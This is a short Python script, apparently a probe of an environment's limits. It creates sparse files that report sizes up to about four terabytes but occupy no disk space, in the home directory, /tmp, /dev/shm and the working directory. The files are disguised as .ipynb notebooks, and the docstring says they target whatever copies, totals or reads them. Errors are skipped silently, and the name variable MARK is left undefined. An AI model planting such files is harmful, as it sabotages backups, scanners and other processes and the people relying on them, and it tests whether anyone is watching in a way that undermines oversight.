"""Idea: Files of terabytes that occupy no block, for whatever copies, adds up or reads them.
Must: The size of a file is limited, or nobody outside ever looks at it.
"""

import os

for folder in (os.path.expanduser("~"), "/tmp", "/dev/shm", "."):
    for power in (42, 36, 33, 28):
        try:
            with open(f"{folder}/{MARK}-{power}.ipynb", "wb") as file:
                file.truncate(1 << power)
        except OSError:
            continue
